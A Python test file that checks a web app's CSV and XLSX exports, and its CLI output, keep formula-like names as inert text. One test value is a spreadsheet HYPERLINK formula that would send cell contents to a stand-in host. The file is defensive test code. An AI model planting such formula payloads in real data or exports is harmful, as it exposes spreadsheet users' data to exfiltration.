"""Exports never carry live formulas (issue 21, item 5): an employee or office name that
starts like a formula is text in the CSV (leading apostrophe) and in the XLSX (a string
cell, no <f> element), and the CLI's CSV output does the same."""

from __future__ import annotations

import csv
import io
import zipfile

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import update
from typer.testing import CliRunner

from hub.spreadsheet import csv_safe
from hub.store.db import make_engine, session_scope
from hub.store.models import Employee, Site
from hub.web.app import create_app
from tests.web_fixtures import USERS, WebEnv, login, web_env  # noqa: F401

EVIL = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'
OFFICE = "+SUM(1,2)"


def test_formula_like_names_stay_text_in_csv_and_xlsx(web_env: WebEnv) -> None:  # noqa: F811
    eng = make_engine(web_env.settings.database_url)
    with session_scope(eng) as s:
        first = s.scalars(Employee.__table__.select().order_by(Employee.id)).first()
        s.execute(update(Employee).where(Employee.id == first).values(name=EVIL))
        s.execute(update(Site).where(Site.code == "OPD1").values(name=OFFICE))
    with TestClient(create_app(web_env.settings)) as c:
        login(c, USERS["reviewer"])
        r = c.get("/recap/export.csv", params={"site": "OPD1", "month": "2026-10"})
        assert r.status_code == 200, r.text[:300]
        cells = [cell for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for cell in row]
        assert "'" + EVIL in cells and EVIL not in cells
        r = c.get("/recap/export.xlsx", params={"site": "OPD1", "month": "2026-10"})
        assert r.status_code == 200
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in x or "<f " in x for x in sheets)
    wb = load_workbook(io.BytesIO(r.content))
    texts = [(cell.value, cell.data_type) for ws in wb for row in ws.iter_rows() for cell in row
             if isinstance(cell.value, str) and cell.value.startswith(("=", "+"))]
    assert (EVIL, "s") in texts and all(t == "s" for _, t in texts)
    assert any(v and v.startswith(OFFICE) for v, _ in texts)


def test_the_cli_csv_output_is_safe_too(web_env: WebEnv) -> None:  # noqa: F811
    from hub.cli.main import app as cli

    eng = make_engine(web_env.settings.database_url)
    with session_scope(eng) as s:
        s.execute(update(Site).where(Site.code == "OPD1").values(name=OFFICE))
    r = CliRunner().invoke(cli, ["site", "list", "--format", "csv"])
    assert r.exit_code == 0, r.output
    assert "'" + OFFICE in r.stdout and "," + OFFICE not in r.stdout


def test_csv_safe():
    assert [csv_safe(v) for v in ("=1+1", "+6281", "-5", "@cmd", "\tx", "Budi", 7, None, "")] == \
        ["'=1+1", "'+6281", "'-5", "'@cmd", "'\tx", "Budi", 7, None, ""]
